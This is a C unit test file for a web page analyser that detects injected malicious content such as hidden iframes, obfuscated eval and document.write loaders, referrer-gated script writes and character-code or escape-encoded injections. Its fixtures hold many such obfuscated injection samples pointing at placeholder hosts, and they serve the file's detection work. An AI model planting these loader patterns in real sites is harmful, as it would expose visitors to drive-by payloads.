/* SPDX-License-Identifier: LGPL-2.1-or-later */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#include "analysis/pageshape.h"

static struct pageshape page(const char *s, struct jsshape *block)
{
        struct pageshape m;
        struct jsshape b;

        pageshape_measure(s, strlen(s), &m, block ? block : &b);
        return m;
}

/* A script before <!doctype and an iframe after </html> are at the edges; a script inside is
 * not, nor is anything of a fragment without <html>, nor of a page whose head precedes it. */
static void test_edges(void **state)
{
        (void)state;
        struct pageshape m = page("<script>var s = unescape(x); document.write(s);</script>\n"
                                  "<!DOCTYPE html><html><head><script src=\"/a.js\"></script>"
                                  "</head><body>hi</body></html>\n"
                                  "<script src=\"https://cdn.example.com/x.js\"></script>\n"
                                  "<iframe src=\"http://example.org/\"></iframe>\n",
                                  NULL);
        /* the bodies: the scripts with a src have none */
        assert_int_equal(m.blocks, 1);
        assert_int_equal(m.edge_elements, 3);
        /* the decoding writer and the iframe; not the script from a CDN */
        assert_int_equal(m.edge_active, 2);

        m = page("<script>document.write(unescape(x));</script><p>fragment</p>", NULL);
        assert_int_equal(m.edge_elements, 0);
        m = page("<head><title>t</title></head><body><script>var h = '<html>';</script>"
                 "<script>document.write(unescape(x));</script></body>",
                 NULL);
        assert_int_equal(m.edge_elements, 0);
        /* a trailing newline after </html> is no edge */
        m = page("<html><body><script>document.write(unescape(x));</script></body></html>\n", NULL);
        assert_int_equal(m.edge_elements, 0);
}

static void test_iframes(void **state)
{
        (void)state;
        struct pageshape m = page(
                "<html><body>\n"
                "<iframe src=\"http://a.example/\" width=\"1\" height=\"1\"></iframe>\n"
                "<iframe src='//b.example/' style='position:absolute; left:-1200px'></iframe>\n"
                "<IFRAME SRC=http://c.example/ STYLE=\"visibility: hidden\"></IFRAME>\n"
                "<iframe src=\"http://d.example/\" width=\"300\" height=\"250\"></iframe>\n"
                "<iframe src=\"javascript:false\" width=\"0\" height=\"0\"></iframe>\n"
                "<iframe name=\"print\" width=\"1\" height=\"1\"></iframe>\n"
                "<noscript><iframe src=\"https://t.example/ns.html\" height=\"0\" width=\"0\" "
                "style=\"display:none\"></iframe></noscript>\n"
                "<script>document.write('<iframe src=\\\"http://e.example/\\\" width=0 "
                "height=0></iframe>');</script>\n"
                "</body></html>",
                NULL);
        /* a, b, c, and the one the script writes: not d (its size), the javascript: and
         * unnamed sources, nor the one in <noscript> */
        assert_int_equal(m.hidden_iframes, 4);
        assert_int_equal(m.ip_sources, 0);
}

static void test_sources(void **state)
{
        (void)state;
        struct pageshape m =
                page("<html><script src=\"http://203.0.113.9/j.js\"></script>"
                     "<script src=\"http://192.168.1.4/local.js\"></script>"
                     "<script src=\"http://127.0.0.1:3000/dev.js\"></script>"
                     "<script src=\"http://localhost:8000/dev.js\"></script>"
                     "<script src=\"https://cdn.example.com:443/a.js\"></script>"
                     "<script src=\"http://ads.example.com:8081/a.js\"></script>"
                     "<iframe src=\"http://198.51.100.20/f\"></iframe>"
                     "<script src=\"http://1.2.3.4.example.com/a.js\"></script></html>",
                     NULL);
        /* the public address, the odd port and the iframe's address */
        assert_int_equal(m.ip_sources, 3);
}

static void test_carrier_and_reader(void **state)
{
        (void)state;
        char s[4096];
        char run[2501];

        for (size_t k = 0; k < sizeof(run) - 1; k++)
                run[k] = "0123456789abcdefXYZ+/"[(k * 7 + k / 3) % 21];
        run[sizeof(run) - 1] = 0;
        snprintf(s, sizeof(s),
                 "<html><body><p>Some words &#x3042;&#x3044;&#x3046;&#x3048;</p>"
                 "<div id=\"d\" style=\"display:none\">%s</div><style>.a{b:c;d:e;f:g}</style>"
                 "<script>var t = document.getElementById('d').innerHTML;"
                 "eval(unescape(t));</script></body></html>",
                 run);
        struct pageshape m = page(s, NULL);
        assert_int_equal(m.carrier_run, 2500);
        assert_int_equal(m.carrier_alphabet, 21);
        assert_true(m.carrier_entropy > 400 && m.carrier_entropy < 440);
        assert_int_equal(m.dom_reads, 2);
        /* text in entities and style is no carrier */
        m = page("<html><p>&#x3042;&#x3044;&#x3046;&#x3048;&#x304A;</p>"
                 "<style>.aaaaaaaaaaaaaaaaaaaaaaaaa{b:c}</style></html>",
                 NULL);
        assert_int_equal(m.carrier_run, 7);
}

/* The worst block is the anomalous one with a sink, not the page's larger library; an e-mail
 * cloaker is never it. */
static void test_worst_block(void **state)
{
        (void)state;
        char s[8192];
        size_t k = 0;

        k += (size_t)snprintf(s + k, sizeof(s) - k, "<html><head><script>");
        for (int i = 0; i < 40; i++)
                k += (size_t)snprintf(s + k, sizeof(s) - k,
                                      "function render%d(el) { el.innerHTML = title; }\n", i);
        k += (size_t)snprintf(
                s + k, sizeof(s) - k,
                "</script><script>var a = 'x' + '&#64;' + 'example' + '.org';"
                "var b = 'p' + 'q' + 'r' + 's' + 't' + 'u' + 'v' + 'w' + 'x';"
                "var c = 'p' + 'q' + 'r' + 's' + 't' + 'u' + 'v' + 'w' + 'x';"
                "var d = 'p' + 'q' + 'r' + 's' + 't' + 'u' + 'v' + 'w' + 'x';"
                "var e = 'p' + 'q' + 'r' + 's' + 't' + 'u' + 'v' + 'w' + 'x';"
                "var f = 'p' + 'q' + 'r' + 's' + 't' + 'u' + 'v' + 'w' + 'x';"
                "document.write(a + b + c + d + e + f);</script>"
                "<script>var KWlqCKLfCV = window[\"eval\"]; var ZXpqRTLmWY = 'do' + 'cu' + "
                "'me' + 'nt'; var QBnvHGTkPD = String.fromCharCode(97, 108, 101, "
                "114, 116); KWlqCKLfCV(QBnvHGTkPD + '(1)'); var HJwqTRNmXZ = "
                "ZXpqRTLmWY.split('').reverse().join(''); "
                "document.write(HJwqTRNmXZ + ZXpqRTLmWY);</script>"
                "</head><body></body></html>");
        struct jsshape b;
        struct pageshape m = page(s, &b);
        assert_int_equal(m.blocks, 3);
        assert_true(b.bytes >= 200 && b.bytes < 400);
        assert_int_equal(b.sink_write, 1);
        assert_int_equal(b.hidden_names, 1);
        assert_true(b.sink_eval >= 1);
        assert_true(b.generated_ids_pm >= 150);

        /* the cloaker alone is not a block either, though it writes what it glues */
        const char *cloak = strstr(s, "<script>var a = 'x'");
        const char *cloak_end = strstr(cloak, "</script>") + 9;
        char alone[512];
        snprintf(alone, sizeof(alone), "<html>%.*s</html>", (int)(cloak_end - cloak), cloak);
        struct pageshape c = page(alone, &b);
        assert_int_equal(c.blocks, 1);
        assert_int_equal(b.bytes, 0);

        /* no sink anywhere: no block */
        struct pageshape n = page("<html><script>var x = 1; var y = 2;</script></html>", &b);
        assert_int_equal(n.blocks, 1);
        assert_int_equal(b.bytes, 0);
}

/* A script's worst line: the one appended to a library, not the library's own lines, and no
 * line when the text is one line (js_* measure that). */
static void test_script_lines(void **state)
{
        (void)state;
        char s[8192];
        size_t k = 0;
        struct jsshape b;

        for (int i = 0; i < 30; i++)
                k += (size_t)snprintf(s + k, sizeof(s) - k,
                                      "function render%d(el, title) { el.innerHTML = title; }\n",
                                      i);
        k += (size_t)snprintf(
                s + k, sizeof(s) - k,
                "var n = [100, 111, 99, 117, 109, 101, 110, 116, 46, 119, 114, 105, 116, 101, "
                "40, 39, 60, 105, 102, 114, 97, 109, 101, 62, 39, 41, 59, 32, 32, 32, 32, 32, "
                "32, 32, 32, 32, 32, 32, 32, 32, 32]; var t = ''; for (var i = 0; i < n.length; "
                "i++) t += String.fromCharCode(n[i]); eval(t);\n");
        pageshape_script_lines(s, k, &b);
        assert_true(b.bytes >= 200);
        assert_int_equal(b.sink_eval, 1);
        assert_true(b.number_pm >= 200);
        assert_int_equal(b.sink_write, 0);

        /* the same line alone is the whole text */
        const char *last = strstr(s, "var n = [");
        pageshape_script_lines(last, strlen(last) - 1, &b);
        assert_int_equal(b.bytes, 0);
        /* the library alone: its lines are short */
        pageshape_script_lines(s, (size_t)(last - s), &b);
        assert_int_equal(b.bytes, 0);
}

/* on* handlers and javascript: URLs are blocks of their own. */
/* Frames that carry nothing for their page (only a src without a query, a size, a style and
 * borders) are bare; a frame inside an element hidden by style or placed off-screen is hidden
 * by its parent; frames with a name, an id, a query or inside <noscript> are not bare. */
static void test_bare_and_parent_hidden(void **state)
{
        (void)state;
        struct pageshape m = page(
                "<html><body>\n"
                "<iframe src=http://a.example/x/stats.php width=1 height=1 "
                "frameborder=0></iframe>\n"
                "<span style=\"position:absolute; top:-1064px; width:331px\">"
                "<iframe src=\"http://b.example/in.cgi\" width=\"250\" height=\"250\"></iframe>"
                "</span>\n"
                "<div style=\"display: none\"><p>text</p><iframe name=\"pay\" "
                "src=\"https://c.example/\" width=\"400\" height=\"300\"></iframe></div>\n"
                "<iframe src=\"https://d.example/ns.html?id=GTM-1\" width=\"0\" height=\"0\" "
                "style=\"display:none\"></iframe>\n"
                "<noscript><iframe src=\"http://e.example/\" width=\"1\" height=\"1\"></iframe>"
                "</noscript>\n"
                "<iframe src=\"https://f.example/embed\" width=\"560\" height=\"315\"></iframe>\n"
                "<input style=\"position:absolute;left:-9999px\" name=\"trap\">"
                "<iframe src=\"https://g.example/embed\" width=\"560\" height=\"315\"></iframe>\n"
                "</body></html>",
                NULL);
        /* a, b, c, d, e, f, g have web sources; e is in <noscript> */
        assert_int_equal(m.iframes, 6);
        /* b and c are hidden by their parents only; the input hides nothing (no container) */
        assert_int_equal(m.parent_iframes, 2);
        assert_int_equal(m.hidden_iframes, 4);
        /* a and b: c has a name, d a query */
        assert_int_equal(m.bare_iframes, 2);
}

/* A gate reads the referrer, tests it and writes a script; a block that only passes the
 * referrer on, or tests the cookies, is none. */
static void test_gate(void **state)
{
        (void)state;
        struct pageshape m = page(
                "<html><head><script>var referrer = encodeURIComponent(document.referrer);"
                "var u = 'http://x.example/j.php?r=' + referrer;"
                "if (referrer !== null && referrer !== '') { document.write('<script src=\"' + u "
                "+ '\"></' + 'script>'); }</script>\n"
                "<script>document.write('<img src=\"//c.example/hit?r=' + "
                "escape(document.referrer) "
                "+ '\">');</script>\n"
                "<script>if (document.cookie.indexOf('ok') < 0) { var s = "
                "document.createElement('script'); s.src = '/consent.js'; "
                "document.head.appendChild(s); }</script>\n"
                "</head><body></body></html>",
                NULL);
        assert_int_equal(m.blocks, 3);
        assert_int_equal(m.gate_blocks, 1);
}

/* The edges of a script: its last line, its first, or what follows its sourceMappingURL
 * comment, when it is short beside the rest; the more anomalous is measured. */
static void test_script_edges(void **state)
{
        (void)state;
        char lib[6000];
        size_t k = 0;
        struct pageshape m = {0};

        for (int i = 0; i < 60; i++)
                k += (size_t)snprintf(lib + k, sizeof(lib) - k,
                                      "function part%d(list) { return list.map(function (x) "
                                      "{ return x + %d; }); }\n",
                                      i, i);
        const char *tail = "var _0xaae8=[\"\",\"\\x6A\\x6F\\x69\\x6E\",\"\\x72\\x65\\x76\\x65"
                           "\\x72\\x73\\x65\",\"\\x73\\x70\\x6C\\x69\\x74\",\"\\x3E\\x74\\x70"
                           "\\x69\\x72\\x63\\x73\\x2F\\x3C\\x3E\\x22\\x73\\x6A\",\"\\x77\\x72"
                           "\\x69\\x74\\x65\"];document[_0xaae8[5]](_0xaae8[4][_0xaae8[3]]"
                           "(_0xaae8[0])[_0xaae8[2]]()[_0xaae8[1]](_0xaae8[0]))\n";
        char text[10000];

        /* the library alone: its lines are plain */
        pageshape_script_edges(lib, k, &m);
        assert_int_equal(m.edge_sinks, 0);
        assert_int_equal(m.edge_hex_ids_pm, 0);
        /* appended as its last line */
        snprintf(text, sizeof(text), "%s%s", lib, tail);
        memset(&m, 0, sizeof(m));
        pageshape_script_edges(text, strlen(text), &m);
        assert_true(m.edge_bytes >= 100);
        assert_true(m.edge_hex_ids_pm >= 300);
        assert_true(m.edge_encoded >= 20);
        /* the call through document[...] computed from the table */
        assert_int_equal(m.edge_sinks, 1);
        /* after a sourceMappingURL comment, on more than one line */
        snprintf(text, sizeof(text), "%s//# sourceMappingURL=lib.js.map\n%s\n\n", lib, tail);
        memset(&m, 0, sizeof(m));
        pageshape_script_edges(text, strlen(text), &m);
        assert_true(m.edge_hex_ids_pm >= 300);
        /* glued onto the end of a long minified line: its last statement */
        char line[9000];
        k = 0;
        for (int i = 0; i < 200; i++)
                k += (size_t)snprintf(line + k, sizeof(line) - k, "function q%d(a){return a+%d}", i,
                                      i);
        snprintf(line + k, sizeof(line) - k, ";%s", tail);
        snprintf(text, sizeof(text), "/* lib */\n%s", line);
        memset(&m, 0, sizeof(m));
        pageshape_script_edges(text, strlen(text), &m);
        assert_true(m.edge_hex_ids_pm >= 300);
        assert_int_equal(m.edge_sinks, 1);
        /* a one-line text is all edge: nothing */
        memset(&m, 0, sizeof(m));
        pageshape_script_edges(tail, strlen(tail), &m);
        assert_int_equal(m.edge_bytes, 0);
        /* hostile: no newline, unclosed brackets */
        memset(&m, 0, sizeof(m));
        pageshape_script_edges("document[document[document[", 27, &m);
        assert_int_equal(m.edge_bytes, 0);
}

/* Many hidden elements that never end cost one pass, not one look each, and hide nothing: the
 * frame after the first of them is not hidden by it. */
static void test_unclosed_hidden(void **state)
{
        (void)state;
        size_t n = 4u << 20, k = 0;
        char *s = malloc(n + 1);
        assert_non_null(s);
        static const char unit[] = "<span style=\"display:none\">x";
        while (k + sizeof(unit) < n) {
                memcpy(s + k, unit, sizeof(unit) - 1);
                k += sizeof(unit) - 1;
        }
        s[k] = 0;
        memcpy(s + sizeof(unit) - 1, "<iframe src=\"http://x.example/\">", 32);
        struct pageshape m;
        struct jsshape b;
        pageshape_measure(s, k, &m, &b);
        assert_int_equal(m.iframes, 1);
        assert_int_equal(m.parent_iframes, 0);
        assert_int_equal(m.hidden_iframes, 0);
        free(s);
}

static void test_handlers(void **state)
{
        (void)state;
        struct jsshape b;
        struct pageshape m = page(
                "<html><body onload=\"var KWlqCKLfCV = window['eval']; var ZXpqRTLmWY = "
                "String.fromCharCode(97, 108, 101, 114, 116, 40, 49, 41, 59, 32, 32, 32, 32, 32, "
                "32, 32, 32, 32, 32, 32, 32, 32, 32, 32, 32, 32, 32, 32, 32, 32, 32, 32, 32, 32, "
                "32, 32); KWlqCKLfCV(ZXpqRTLmWY); "
                "document.write(ZXpqRTLmWY);\">"
                "<a href='javascript:void(0)' onclick='go()'>x</a>"
                "<img src=x.png alt=\"onload=1\"></body></html>",
                &b);
        /* the body's onload, the link's URL and its onclick: not the alt text */
        assert_int_equal(m.blocks, 3);
        assert_true(b.bytes >= 200);
        assert_int_equal(b.hidden_names, 1);
        assert_int_equal(b.sink_write, 1);
}

static void test_merge(void **state)
{
        (void)state;
        struct pageshape a = {.blocks = 2, .hidden_iframes = 0, .carrier_run = 9};
        struct pageshape b = {.blocks = 1, .hidden_iframes = 3, .carrier_run = 4};

        pageshape_merge(&a, &b);
        assert_int_equal(a.blocks, 2);
        assert_int_equal(a.hidden_iframes, 3);
        assert_int_equal(a.carrier_run, 9);
}

/* Unclosed tags, quotes and comments end at the text's end. */
/* A bare hidden frame to a host the page names nowhere else is lone; one whose host the page
 * names again (its ad's script, a link) is not, and a visible embed beside it changes nothing. */
static void test_lone_frames(void **state)
{
        (void)state;
        struct pageshape m =
                page("<html><body><iframe src=\"https://www.youtube.com/embed/x\" width=\"560\" "
                     "height=\"315\" allowfullscreen></iframe>"
                     "<iframe src=\"http://stats.example.net/\" width=\"0\" height=\"0\" "
                     "frameborder=\"0\"></iframe></body></html>",
                     NULL);
        assert_int_equal(m.iframes, 2);
        assert_int_equal(m.bare_iframes, 1);
        assert_int_equal(m.bare_lone_iframes, 1);

        m = page("<html><head><script src=\"https://ads.example.net/tag.js\"></script></head>"
                 "<body><iframe src=\"https://ads.example.net/\" width=\"1\" height=\"1\">"
                 "</iframe></body></html>",
                 NULL);
        assert_int_equal(m.bare_iframes, 1);
        assert_int_equal(m.bare_lone_iframes, 0);

        /* the frame's domain named by another host under it (safeframe containers beside the
         * ad's own script); a fragment carries data as a query does */
        m = page("<html><head><script src=\"https://pagead2.example.com/tag.js\"></script></head>"
                 "<body><iframe src=\"https://tpc.example.com/container.html\" "
                 "style=\"display:none\"></iframe><iframe src=\"http://c.other.co.uk/b.html#x7\" "
                 "width=0 height=0></iframe></body></html>",
                 NULL);
        assert_int_equal(m.bare_iframes, 2);
        assert_int_equal(m.bare_lone_iframes, 0);

        /* under a country's second level the domain is three labels: www.other.co.uk names
         * the frame's, www.co.uk would not */
        m = page("<html><body><a href=\"https://www.other.co.uk/\">home</a>"
                 "<iframe src=\"http://a.b.other.co.uk/\" width=0 height=0></iframe></body></html>",
                 NULL);
        assert_int_equal(m.bare_lone_iframes, 0);
        m = page("<html><body><a href=\"https://www.co.uk/\">home</a>"
                 "<iframe src=\"http://a.b.other.co.uk/\" width=0 height=0></iframe></body></html>",
                 NULL);
        assert_int_equal(m.bare_lone_iframes, 1);

        /* two frames to one host the page names only in them; a longer name holding the host
         * is another host */
        m = page("<html><body><a href=\"http://www.stats.example.net.other.org/\">x</a>"
                 "<iframe src=\"http://stats.example.net/a\" width=0 height=0></iframe>"
                 "<iframe src=\"http://stats.example.net/b\" style=\"display:none\"></iframe>"
                 "</body></html>",
                 NULL);
        assert_int_equal(m.bare_lone_iframes, 2);
}

/* A whole literal decoded by fromCharCode, atob or unescape and run or written, whose text
 * makes a script or iframe to a web address or redirects: counted; a literal joined with a
 * variable (the old analytics snippet), a decoded text that writes no element, and a call that
 * is not run or written are not. */
static void test_decoded_injections(void **state)
{
        (void)state;
        /* var s = document.createElement("script"); s.src = "http://a.b/c"; */
        static const char charcodes[] =
                "118,97,114,32,115,61,100,111,99,117,109,101,110,116,46,99,114,101,97,116,101,"
                "69,108,101,109,101,110,116,40,34,115,99,114,105,112,116,34,41,59,115,46,115,"
                "114,99,61,34,104,116,116,112,58,47,47,97,46,98,47,99,34,59";
        char html[1024];
        snprintf(html, sizeof(html),
                 "<html><head><script>eval(String.fromCharCode(%s));</script></head></html>",
                 charcodes);
        assert_int_equal(page(html, NULL).decoded_injections, 1);
        snprintf(html, sizeof(html),
                 "<html><head><script>var x = String.fromCharCode(%s);</script></head></html>",
                 charcodes);
        assert_int_equal(page(html, NULL).decoded_injections, 0);

        /* document.write("<iframe src='http://x.example/'></iframe>") in base64 */
        assert_int_equal(
                page("<html><script>eval(atob('ZG9jdW1lbnQud3JpdGUoIjxpZnJhbWUgc3JjPSdodHRwOi8v"
                     "eC5leGFtcGxlLyc+PC9pZnJhbWU+Iik='));</script></html>",
                     NULL)
                        .decoded_injections,
                1);
        assert_int_equal(page("<html><script>document.write(unescape(\"%3Cscript src='\" + host + "
                              "\"ga.js'%3E%3C/script%3E\"));</script></html>",
                              NULL)
                                 .decoded_injections,
                         0);
        /* a tag with only its < and > escaped is a page's convention; every byte escaped is
         * hidden code */
        assert_int_equal(page("<html><script>document.write(unescape('%3Cscript "
                              "src=%22http://x.example/a.js%22%3E%3C/script%3E'));</script></html>",
                              NULL)
                                 .decoded_injections,
                         0);
        assert_int_equal(page("<html><script>document.write(unescape('%3C%73%63%72%69%70%74%20%73"
                              "%72%63%3D%22%68%74%74%70%3A%2F%2F%78%2E%65%78%61%6D%70%6C%65%2F%61"
                              "%2E%6A%73%22%3E%3C%2F%73%63%72%69%70%74%3E'));</script></html>",
                              NULL)
                                 .decoded_injections,
                         1);
        assert_int_equal(page("<html><script>document.write(unescape('%3Cb%3Ehello%3C/b%3E'));"
                              "</script></html>",
                              NULL)
                                 .decoded_injections,
                         0);
        /* an unclosed literal or list ends at the block */
        assert_int_equal(
                page("<html><script>eval(atob('ZG9j</script></html>", NULL).decoded_injections, 0);
        assert_int_equal(
                page("<html><script>eval(String.fromCharCode(60,115,99", NULL).decoded_injections,
                0);
}

static struct pageshape script(const char *s)
{
        struct pageshape m = {0};

        pageshape_script_injections(s, strlen(s), &m);
        return m;
}

/* The characters of text, each plus key, as a list of numbers into out: quoted ("116", ...),
 * bare (116, ...) or in base 8 inside one string (for "...".split(",")). */
static void shifted(char *out, size_t size, const char *text, int key, char form)
{
        size_t len = 0;

        out[0] = '\0';
        for (const char *t = text; *t && len + 8 < size; t++) {
                int v = (unsigned char)*t + key;
                len += (size_t)snprintf(out + len, size - len,
                                        form == 'q'   ? "%s\"%d\""
                                        : form == 'o' ? "%s%o"
                                                      : "%s%d",
                                        t == text     ? ""
                                        : form == 'q' ? ", "
                                                      : ",",
                                        v);
        }
}

/* A list of character codes moved by a key that decodes to code writing or making a script,
 * frame or redirect counts, quoted, bare or in base 8, in a script or a page's block; a list
 * whose text is no such code, a short list or a script that never names fromCharCode does
 * not. */
static void test_shifted_lists(void **state)
{
        (void)state;
        static const char code[] =
                "var f = document.createElement('iframe'); f.src = 'http://x.example/c.php'; "
                "f.width = 1; document.body.appendChild(f);";
        static const char redirect[] = "window.top.location.href='http://x.example/?a=1&b=2';";
        static const char prose[] =
                "the quick brown fox jumps over the lazy dog, again and again and again";
        char list[4096], js[8192];

        shifted(list, sizeof(list), code, 16, 'q');
        snprintf(js, sizeof(js),
                 "var a=[%s];var s=\"\";for(i=0;i<a.length;i++){s+=String.fromCharCode(a[i]-16);}"
                 "eval(s);",
                 list);
        assert_int_equal(script(js).shifted_lists, 1);
        /* no fromCharCode named: not looked at */
        snprintf(js, sizeof(js), "var a=[%s];", list);
        assert_int_equal(script(js).shifted_lists, 0);

        shifted(list, sizeof(list), redirect, 56, 'b');
        snprintf(js, sizeof(js),
                 "function f(){a=56;b=[%s];c='';for(d=0;d<b.length;d++){c+=String.fromCharCode(b["
                 "d]-a);}return c;}setTimeout(f(),1290);",
                 list);
        assert_int_equal(script(js).shifted_lists, 1);

        shifted(list, sizeof(list), code, 4, 'o');
        snprintf(js, sizeof(js),
                 "ps=\"split\";a=(\"%s\"[ps](\",\"));for(i=0;i<a.length;i++){a[i]=-(7-3)+parseInt("
                 "a[i],8);}eval(String.fromCharCode.apply(String,a));",
                 list);
        assert_int_equal(script(js).shifted_lists, 1);

        /* in a page's block */
        shifted(list, sizeof(list), code, 16, 'q');
        snprintf(js, sizeof(js),
                 "<html><body><p>x</p><script>var a=[%s];var s=\"\";for(i=0;i<a.length;i++){s+="
                 "String.fromCharCode(a[i]-16);}eval(s);</script></body></html>",
                 list);
        assert_int_equal(page(js, NULL).shifted_lists, 1);

        /* text that is no code of the page, and a list under 32 numbers */
        shifted(list, sizeof(list), prose, 3, 'b');
        snprintf(js, sizeof(js), "var a=[%s];eval(String.fromCharCode.apply(null,a));", list);
        assert_int_equal(script(js).shifted_lists, 0);
        shifted(list, sizeof(list), "document.write('<p>');", 1, 'b');
        snprintf(js, sizeof(js), "var a=[%s];eval(String.fromCharCode.apply(null,a));", list);
        assert_int_equal(script(js).shifted_lists, 0);
        /* a table of bytes (0 to 255) spans more than printable text */
        size_t len = 0;
        for (int v = 0; v < 256; v++)
                len += (size_t)snprintf(list + len, sizeof(list) - len, "%s%d", v ? "," : "", v);
        snprintf(js, sizeof(js), "var t=[%s];function h(x){return String.fromCharCode(t[x]);}",
                 list);
        assert_int_equal(script(js).shifted_lists, 0);
        /* names and numbers with four digits or a dot are not character codes */
        assert_int_equal(script("String.fromCharCode;var a=[1.5,2.5,3.5,4.5,5.5,6.5,7.5,8.5,9.5,"
                                "10.5,11.5,12.5,13.5,14.5,15.5,16.5,17.5,18.5,19.5,20.5,21.5,22.5,"
                                "23.5,24.5,25.5,26.5,27.5,28.5,29.5,30.5,31.5,32.5,33.5];")
                                 .shifted_lists,
                         0);
}

/* A script kept apart from its page: one literal decoded and run or written whose code makes
 * or writes a script from an address counts, also when the tag is glued from two literals
 * ('<scr' + 'ipt') and when the code comes after the first 4 KiB of the escaped literal; the
 * same literal kept in a variable does not, nor a script that decodes nothing. */
static void test_script_decoded_injections(void **state)
{
        (void)state;
        static const char code[] = "if (document.referrer) { document.write('<scr' + 'ipt "
                                   "src=\"http://x.example/a.cgi\">"
                                   "</sc' + 'ript>'); }";
        char escaped[16384], js[20000];
        size_t len = 0;

        for (const char *t = code; *t; t++)
                len += (size_t)snprintf(escaped + len, sizeof(escaped) - len, "%%%02X",
                                        (unsigned char)*t);
        snprintf(js, sizeof(js), "eval(unescape('%s'));", escaped);
        assert_int_equal(script(js).decoded_injections, 1);
        snprintf(js, sizeof(js), "var x = unescape('%s');", escaped);
        assert_int_equal(script(js).decoded_injections, 0);

        /* 1,500 escaped spaces before the code: the write comes after the first 4 KiB */
        len = 0;
        for (int k = 0; k < 1500; k++)
                len += (size_t)snprintf(escaped + len, sizeof(escaped) - len, "%%20");
        for (const char *t = code; *t; t++)
                len += (size_t)snprintf(escaped + len, sizeof(escaped) - len, "%%%02X",
                                        (unsigned char)*t);
        snprintf(js, sizeof(js), "eval(unescape('%s'));", escaped);
        assert_int_equal(script(js).decoded_injections, 1);

        assert_int_equal(
                script("document.write('<script src=\"http://x.example/a.js\"></script>');")
                        .decoded_injections,
                0);
        assert_int_equal(script("").decoded_injections, 0);
}

static void test_hostile(void **state)
{
        (void)state;
        static const char *const texts[] = {
                "<",
                "<script",
                "<script>",
                "<iframe src='http://203.0.113.1/",
                "<!--",
                "<html></html",
                "</html>",
                "<style>",
                "<noscript><iframe",
                "<p>\"'''\"",
                "<iframe width=",
                "<script src=http://1.2.3.4:",
        };
        for (size_t i = 0; i < sizeof(texts) / sizeof(texts[0]); i++) {
                struct jsshape b;
                struct pageshape m;
                pageshape_measure(texts[i], strlen(texts[i]), &m, &b);
                assert_true(m.carrier_run <= (int64_t)strlen(texts[i]));
                assert_int_equal(b.bytes, 0);
        }
}

int main(void)
{
        const struct CMUnitTest tests[] = {
                cmocka_unit_test(test_edges),
                cmocka_unit_test(test_iframes),
                cmocka_unit_test(test_sources),
                cmocka_unit_test(test_carrier_and_reader),
                cmocka_unit_test(test_worst_block),
                cmocka_unit_test(test_script_lines),
                cmocka_unit_test(test_handlers),
                cmocka_unit_test(test_merge),
                cmocka_unit_test(test_hostile),
                cmocka_unit_test(test_bare_and_parent_hidden),
                cmocka_unit_test(test_gate),
                cmocka_unit_test(test_script_edges),
                cmocka_unit_test(test_unclosed_hidden),
                cmocka_unit_test(test_lone_frames),
                cmocka_unit_test(test_decoded_injections),
                cmocka_unit_test(test_shifted_lists),
                cmocka_unit_test(test_script_decoded_injections),
        };
        return cmocka_run_group_tests(tests, NULL, NULL);
}
